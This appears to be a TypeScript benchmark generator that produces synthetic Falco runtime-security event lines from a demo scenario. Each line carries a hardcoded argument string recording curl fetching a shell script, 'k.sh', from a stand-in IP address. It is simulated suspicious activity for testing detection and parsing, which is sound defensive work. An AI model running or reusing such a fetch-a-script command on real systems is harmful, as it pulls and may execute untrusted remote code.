/**
 * Benchmark input: Falco JSON lines shaped like the feed rules' output (the full feed field
 * set, evt.time as 19-digit nanoseconds, missing values as null), plus Falco alerts.
 */
import { stringifyExact } from '../src/core/exact-json.js';
import { formatRfc3339Ns } from '../src/core/time.js';
import { buildScenario } from '../src/demo/scenario.js';

const FEED_FIELDS = [
  'evt.args', 'evt.arg.flags', 'evt.arg.mode', 'evt.arg.uid', 'evt.arg.ruid', 'evt.arg.euid', 'evt.arg.target',
  'evt.arg.linkpath', 'evt.arg.name', 'evt.arg.path', 'evt.arg.fd', 'evt.arg.dev', 'evt.arg.dir', 'evt.arg.type',
  'evt.arg.request', 'evt.arg.pid', 'evt.arg.nstype', 'evt.arg.oldpath', 'evt.arg.newpath', 'proc.aname[2]',
  'proc.aname[3]', 'proc.sid', 'group.gid', 'fd.num', 'fd.type', 'fd.directory', 'fd.filename', 'fd.sip', 'fd.sport',
  'fd.cip', 'fd.cport', 'fd.l4proto', 'container.privileged',
] as const;

/** `count` JSON lines: the demo scenario's events repeated with fresh times, widened to the feed field set. */
export function benchLines(count: number): string[] {
  const lines: string[] = [];
  let t = 1763990696428114287n;
  while (lines.length < count) {
    for (const { json } of buildScenario(t)) {
      if (lines.length >= count) break;
      const fields = json['output_fields'] as Record<string, unknown>;
      for (const f of FEED_FIELDS) if (!(f in fields)) fields[f] = null;
      fields['evt.args'] = 'res=0 exe=/usr/bin/curl args=-s.http://198.51.100.23:8000/k.sh. tid=7411(curl) pid=7411(curl) ptid=7400(sh)';
      fields['proc.sid'] = 1;
      fields['group.gid'] = 0;
      t += 1_000_003n;
      fields['evt.time'] = t;
      json['time'] = formatRfc3339Ns(t);
      lines.push(stringifyExact(json));
    }
  }
  return lines;
}
